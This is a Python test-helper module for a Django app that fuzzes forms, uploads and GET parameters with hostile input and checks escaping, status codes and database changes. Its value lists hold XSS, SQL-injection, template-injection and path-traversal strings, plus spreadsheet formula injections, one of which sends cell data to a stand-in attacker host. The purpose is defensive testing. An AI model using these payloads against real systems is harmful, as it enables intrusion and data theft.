"""Hostile input: adversarial values for forms and imports, and the checks every such test makes.

A hostile-input test posts a form built by `form_data()` — each field either a
valid value or a hostile one — and hands the request to `check_post()`, which
asserts what issue 6 asks of every form:

- the answer is a 200 (with field errors) or a redirect, never a 500;
- a refused request changes no row anywhere; an accepted one changes only the
  tables the caller says the form writes, and the caller's `then` checks the
  rows hold what was typed;
- user text is escaped wherever it is shown again: the re-rendered form, and
  the page the redirect leads to.

Every example runs in a savepoint that is rolled back, so each one meets the
same world. `conftest.py` registers the Hypothesis profiles: "ci" runs 200
examples per test, derandomized so a CI run repeats what was run here; "dev"
(the default) runs fewer, from fresh random seeds.
"""

from __future__ import annotations

import datetime
import functools
import hashlib
from collections.abc import Callable, Iterable, Mapping
from typing import Any

from django.apps import apps
from django.conf import settings
from django.core.exceptions import SuspiciousFileOperation
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.shortcuts import resolve_url
from django.test import Client
from hypothesis import currently_in_test_context, event
from hypothesis import strategies as st

# --- the values -------------------------------------------------------------------

# What a script injection looks like when it survived: the probe's text, unescaped.
XSS_PROBES = (
    "<script>alert('xss-probe')</script>",
    "\"><img src=x onerror=alert('xss-probe')>",
    "<svg onload=alert('xss-probe')>",
    "</title><script>alert('xss-probe')</script>",
    "javascript:alert('xss-probe')",
)
RAW_MARKERS = (
    "<script>alert('xss-probe')",
    "<img src=x onerror=alert(",
    "<svg onload=alert(",
)

ADVERSARIAL_TEXT = (
    *XSS_PROBES,
    "'; DROP TABLE vendors_vendor; --",
    "Robert'); DELETE FROM engagements_engagement WHERE ('1'='1",
    "1 OR 1=1",
    '" OR ""="',
    "%s%s%s%n",
    "{{ request.user.password }}",
    "{% debug %}",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "../../../../etc/passwd",
    "\u202egnp.exe",  # right-to-left override
    "Zalgo T̸̢̛͓̙h̴e̵ ̶p̷o̸n̴y̸",
    "𝕳𝖊𝖑𝖑𝖔 🏳️‍🌈 👩‍👩‍👧‍👦",
    "日本語のテキスト",
    "مرحبا بالعالم",
    "\u0000",
    "nul\u0000inside",
    "\ufeffbom first",
    "   ",
    "\r\n\t",
    "line one\nline two",
    "a" * 1000,
    "ü" * 5000,
    "x" * 100_000,
)

ADVERSARIAL_NUMBERS = (
    "NaN",
    "nan",
    "-NaN",
    "sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    "-inf",
    "1e309",
    "-1e309",
    "1e-400",
    "1E+999999999",
    "9" * 40,
    "-" + "9" * 40,
    "0.00000000000000000001",
    "-0",
    "-1",
    "-2147483649",
    "2147483648",
    "9223372036854775808",
    "0x1F",
    "1,000",
    "1 000",
    " 7 ",
    "١٢٣",  # Arabic-Indic digits
    "½",
    "",
    "abc",
)

ADVERSARIAL_DATES = (
    "0001-01-01",
    "9999-12-31",
    "0000-00-00",
    "2026-02-30",
    "2026-13-01",
    "10000-01-01",
    "-2026-01-01",
    "1900-02-29",
    "2024-02-29",
    "yesterday",
    "31/12/2026",
    "2026-12-31T25:61:00",
    "",
)


def hostile_text(*, max_size: int = 300) -> st.SearchStrategy[str]:
    """Random unicode (control characters included), named attacks, and very long strings."""
    return st.one_of(
        st.sampled_from(ADVERSARIAL_TEXT),
        st.text(max_size=max_size),
        st.builds(lambda a, b: f"{a}{b}", st.text(max_size=20), st.sampled_from(XSS_PROBES)),
    )


def hostile_number() -> st.SearchStrategy[str]:
    """NaN and infinity, huge and negative values, wrong formats, and random numbers."""
    return st.one_of(
        st.sampled_from(ADVERSARIAL_NUMBERS),
        st.integers().map(str),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        hostile_text(max_size=20),
    )


def hostile_date() -> st.SearchStrategy[str]:
    """Dates far in the past and the future, impossible dates, and things that are not dates."""
    return st.one_of(
        st.sampled_from(ADVERSARIAL_DATES),
        st.dates(min_value=datetime.date(1, 1, 1), max_value=datetime.date(9999, 12, 31)).map(
            datetime.date.isoformat
        ),
        hostile_text(max_size=20),
    )


def hostile_choice(valid: Iterable[Any] = ()) -> st.SearchStrategy[str]:
    """A choice or a reference to a row: the valid ones, other ids, and nonsense."""
    return st.one_of(
        st.sampled_from([str(value) for value in valid] or [""]),
        st.integers(min_value=-(2**63), max_value=2**63).map(str),
        hostile_text(max_size=30),
    )


def hostile_flag() -> st.SearchStrategy[str]:
    return st.sampled_from(["on", "true", "false", "1", "0", "", "yes", "<b>on</b>", "\u0000"])


FILE_NAMES = (
    "evidence.pdf",
    "evidence.PDF",
    "report.pdf.exe",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "<script>alert('xss-probe')</script>.pdf",
    "nul\u0000.pdf",
    "résumé 履歴書.pdf",
    ".",
    "no-extension",
    "x" * 300 + ".pdf",
)
FILE_CONTENTS = (
    b"%PDF-1.4\n%hostile but well-formed header\n",
    b"MZ\x90\x00\x03\x00",  # a Windows executable
    b"<html><script>alert('xss-probe')</script></html>",
    b"\x89PNG\r\n\x1a\n",
    b"PK\x03\x04",  # a zip (and every Office file)
    b"",
    b"\x00" * 1024,
)


def _uploaded(name: str, content: bytes, content_type: str) -> SimpleUploadedFile:
    try:
        return SimpleUploadedFile(name, content, content_type)
    except SuspiciousFileOperation:
        # "." or "dir/": Django cannot name such a file, and its multipart parser drops
        # the part a browser sends with that name; what the form then sees is nameless.
        return SimpleUploadedFile("unnamed", content, content_type)


def hostile_upload() -> st.SearchStrategy[SimpleUploadedFile]:
    """A fresh uploaded file per example: hostile names, disguised and empty contents."""
    return st.builds(
        _uploaded,
        st.one_of(st.sampled_from(FILE_NAMES), st.text(min_size=1, max_size=40)),
        st.one_of(st.sampled_from(FILE_CONTENTS), st.binary(max_size=2048)),
        st.sampled_from(["application/pdf", "text/html", "application/octet-stream", ""]),
    )


def form_data(
    valid: Mapping[str, Any], hostile: Mapping[str, st.SearchStrategy[Any]]
) -> st.SearchStrategy[dict[str, Any]]:
    """A POST body: each field valid, hostile, or missing, so that both the error paths and
    the save path (with hostile text that is valid) are walked."""
    names = sorted({*valid, *hostile})
    attacked = sorted(hostile)

    @st.composite
    def build(draw: st.DrawFn) -> dict[str, Any]:
        # Mostly one to three fields under attack and the rest valid, so that hostile text
        # which passes validation is saved and shown again; sometimes everything at once.
        if draw(st.integers(0, 9)) == 0:
            chosen = set(attacked)
        else:
            chosen = draw(st.sets(st.sampled_from(attacked), min_size=1, max_size=3))
        missing = (
            draw(st.sets(st.sampled_from(names), max_size=1)) if draw(st.booleans()) else set()
        )
        data: dict[str, Any] = {}
        for name in names:
            if name in missing:
                continue  # the field left out of the request
            if name in chosen:
                data[name] = draw(hostile[name])
            elif name in valid:
                data[name] = valid[name]
        return data

    return build()


# --- the database, before and after --------------------------------------------------


@functools.cache
def _tables() -> dict[str, tuple[str, list[str]]]:
    """Every table a model of an installed app lives in (history and many-to-many tables
    included), with its primary key and columns."""
    tables: dict[str, tuple[str, list[str]]] = {}
    for model in apps.get_models(include_auto_created=True):
        meta = model._meta
        if meta.proxy or not meta.managed:
            continue
        columns = [str(field.column) for field in meta.concrete_fields]
        tables[meta.db_table] = (str(meta.pk.column), columns)
    return tables


WATCHED_APPS = ("auth", "vendors", "engagements")


def database_state(tables: Iterable[str] | None = None) -> dict[str, tuple[int, str]]:
    """Row count and a digest of every row, per table, in one query: the tables named, or
    by default those of the auth, vendors and engagements apps."""
    if tables is None:
        prefixes = tuple(f"{label}_" for label in WATCHED_APPS)
        wanted = {table for table in _tables() if table.startswith(prefixes)}
    else:
        wanted = set(tables)
    quote = connection.ops.quote_name
    parts = []
    for table, (pk, columns) in sorted(_tables().items()):
        if table not in wanted:
            continue
        if connection.vendor == "postgresql":
            digest = f"md5(coalesce(string_agg(t::text, '|' ORDER BY t.{quote(pk)}), ''))"
            source = f"{quote(table)} t"
        else:
            row = " || ',' || ".join(f"quote({quote(column)})" for column in columns)
            digest = f"coalesce(group_concat({row}, '|'), '')"
            source = f"(SELECT * FROM {quote(table)} ORDER BY {quote(pk)})"
        parts.append(f"SELECT '{table}', count(*), {digest} FROM {source}")  # nosec B608
    if not parts:
        return {}
    with connection.cursor() as cursor:
        cursor.execute(" UNION ALL ".join(parts))
        rows = cursor.fetchall()
    return {
        table: (count, hashlib.sha256(str(digest).encode()).hexdigest())
        for table, count, digest in rows
    }


def changed_tables(
    before: dict[str, tuple[int, str]], after: dict[str, tuple[int, str]]
) -> set[str]:
    return {table for table in {*before, *after} if before.get(table) != after.get(table)}


def _write_counters() -> dict[str, int] | None:
    """On PostgreSQL, how many rows this transaction has inserted, updated and deleted so
    far, per table written to (rolled-back work included); None elsewhere. One cheap
    query: a count that did not move means the table was not written."""
    if connection.vendor != "postgresql":
        return None
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT relname, writes FROM ("
            " SELECT c.relname, pg_stat_get_xact_tuples_inserted(c.oid)"
            " + pg_stat_get_xact_tuples_updated(c.oid)"
            " + pg_stat_get_xact_tuples_deleted(c.oid) AS writes"
            " FROM pg_class c WHERE c.relkind IN ('r', 'p')"
            " AND c.relnamespace = to_regnamespace(current_schema())"
            ") AS tables WHERE writes > 0"
        )
        return dict(cursor.fetchall())


class Watch:
    """The tables a request changed, inside the caller's rolled-back savepoint.

    `started()` before the request; `finished(allowed)` right after it, with the tables
    the request may change; `changed()` once the caller is done reading what the request
    left: the tables outside `allowed` whose rows differ from before the request.

    On PostgreSQL the transaction's write counters name the tables the request wrote to,
    and only those outside `allowed` are compared row by row (a write may leave a row as
    it was), the state before being read after rolling the request back. Most requests
    write nothing or only what they may, and cost two cheap queries. Elsewhere every
    watched table is compared."""

    def started(self) -> None:
        self._counters = _write_counters()
        self._before = database_state() if self._counters is None else None
        self._savepoint = transaction.savepoint()

    def finished(self, allowed: Iterable[str] = ()) -> None:
        self._allowed = set(allowed)
        if self._counters is None:
            self._suspects: set[str] = set()
            self._after = database_state()
            return
        counters = _write_counters() or {}
        written = {name for name, count in counters.items() if self._counters.get(name) != count}
        self._suspects = written - self._allowed
        self._after = database_state(self._suspects) if self._suspects else {}

    def changed(self) -> set[str]:
        if self._before is None:
            if not self._suspects:
                return set()
            transaction.savepoint_rollback(self._savepoint)
            self._before = database_state(self._suspects)
        # A table no model knows cannot be compared: its write counts as a change.
        unknown = self._suspects - _tables().keys()
        return (changed_tables(self._before, self._after) | unknown) - self._allowed


# --- the checks -----------------------------------------------------------------------


def assert_escaped(html: str, where: str) -> None:
    for marker in RAW_MARKERS:
        assert marker not in html, f"unescaped user text ({marker!r}) in {where}"


def _describe(data: Mapping[str, Any]) -> str:
    shown = {
        name: (
            value[:60] + f"…({len(value)} chars)"
            if isinstance(value, str) and len(value) > 60
            else value
        )
        for name, value in data.items()
    }
    return repr(shown)


def _tally(what: str) -> None:
    """Count answers in Hypothesis' statistics (`--hypothesis-show-statistics`)."""
    if currently_in_test_context():
        event(what)


def sign_in(client: Client, user: Any) -> None:
    """Sign `user` in on `client`, once per test: Hypothesis runs a test's body once per
    example, and a real sign-in (a session, last_login, django-axes' bookkeeping) costs
    more than the request under test. The session row is written outside the examples'
    rolled-back savepoints, so it lasts for the whole test; `check_post` and `check_get`
    fail if a request ever lands on the sign-in page instead."""
    if getattr(client, "_hostile_user_pk", None) != user.pk:
        client.force_login(user)
        client._hostile_user_pk = user.pk  # type: ignore[attr-defined]


def _still_signed_in(response: Any) -> None:
    assert not response["Location"].startswith(resolve_url(settings.LOGIN_URL)), (
        "the request was sent to the sign-in page: the test's session was lost"
    )


def with_history(tables: Iterable[str]) -> set[str]:
    """The tables and their django-simple-history tables ("vendors_contact" and
    "vendors_historicalcontact")."""
    return {
        name
        for table in tables
        for name in (table, "{}_historical{}".format(*table.split("_", 1)))
        if "_" in table
    } | set(tables)


def check_post(
    client: Client,
    url: str,
    data: Mapping[str, Any],
    *,
    writes: Iterable[str] = (),
    then: Callable[[Any, dict[str, Any]], None] | None = None,
) -> int:
    """Post `data` to `url` and check the answer and the database; roll everything back.

    `writes` names the tables an accepted request may change (each one's history table
    with it: a tracked row's change history follows the row);
    `then(response, data)` runs inside the savepoint after an accepted request, to check
    the rows hold what was typed. Returns the status code.
    """
    watch = Watch()
    with transaction.atomic():
        watch.started()
        try:
            response = client.post(url, data)
        except Exception as error:  # the test client re-raises what would be a 500
            raise AssertionError(f"500 for {_describe(data)}: {error!r}") from error
        status = response.status_code
        watch.finished(
            {*with_history(writes), "django_session"} if status == 302 else {"django_session"}
        )
        _tally(f"POST answered {status}")
        assert status in (200, 302), f"{status} for {_describe(data)}"
        if status == 302:
            _still_signed_in(response)
            if then is not None:
                then(response, dict(data))
            landing = client.get(response["Location"])
            assert landing.status_code == 200, f"{landing.status_code} after the redirect"
            assert_escaped(landing.content.decode(), f"the page after saving {_describe(data)}")
            unexpected = watch.changed()
            assert not unexpected, f"an accepted request changed {sorted(unexpected)} too"
        else:
            assert_escaped(response.content.decode(), f"the form page for {_describe(data)}")
            changed = watch.changed()
            assert not changed, f"a refused request changed {sorted(changed)}: {_describe(data)}"
        transaction.set_rollback(True)
    return status


def check_get(client: Client, url: str, params: Mapping[str, Any]) -> int:
    """A GET with hostile query parameters (filters, search, sort, page): a page, never a 500,
    nothing written, everything escaped."""
    watch = Watch()
    with transaction.atomic():
        watch.started()
        try:
            response = client.get(url, params)
        except Exception as error:
            raise AssertionError(f"500 for {_describe(params)}: {error!r}") from error
        watch.finished({"django_session"})
        status = response.status_code
        _tally(f"GET answered {status}")
        assert status in (200, 302), f"{status} for {_describe(params)}"
        if status == 302:
            _still_signed_in(response)
        assert_escaped(response.content.decode(), f"the page for {_describe(params)}")
        changed = watch.changed()
        assert not changed, f"a GET changed {sorted(changed)}: {_describe(params)}"
        transaction.set_rollback(True)
    return status
